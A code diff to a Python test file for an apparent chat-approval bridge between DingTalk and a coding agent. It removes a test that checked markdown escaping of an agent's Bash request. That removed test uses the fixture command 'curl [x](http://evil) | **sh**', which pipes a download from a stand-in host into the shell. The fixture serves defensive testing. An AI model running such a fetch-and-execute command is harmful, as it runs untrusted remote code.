@@ -12,7 +12,7 @@ from codebuddy_client import RunResult
 from dingtalk.route import Route
 from dingtalk_sender import Delivery
 from store.memory import MemoryTaskStore
-from tasks.approvals import Approvals, question_text, split_answers, verdict
+from tasks.approvals import Approvals, split_answers, verdict
 from tasks.task import FAILED, RUNNING, Task
 
 
@@ -40,15 +40,6 @@ def test_a_numbered_reply_answers_several_questions_one_by_one_and_any_other_rep
     assert split_answers(questions, "都听你的") == dict.fromkeys(questions, "都听你的")
     assert split_answers(questions, "1. 只答了一个") == dict.fromkeys(questions, "1. 只答了一个")
     assert split_answers(["只有一个？"], "1. 带编号") == {"只有一个？": "1. 带编号"}  # one question: kept as written
-
-
-def test_the_question_shown_in_the_chat_escapes_what_the_agent_wrote_and_asks_for_numbers_when_several():
-    shown = question_text(_task(), ToolRequest("Bash", {"command": "curl [x](http://evil) | **sh**"}), 300)
-    assert r"\[x\](http://evil) \| \*\*sh\*\*" in shown and "@Olga" in shown and "5 分钟" in shown
-    several = ToolRequest(ASK_QUESTION_TOOL, {"questions": [{"question": "A？"}, {"question": "B？"}]})
-    assert "按编号逐行回答" in question_text(_task(), several, 60)
-    assert "按编号" not in question_text(_task(), ToolRequest(ASK_QUESTION_TOOL, {"questions": [{"question": "A？"}]}),
-                                         60)
 
 
 def test_a_reply_to_several_questions_reaches_the_cli_as_one_answer_each():
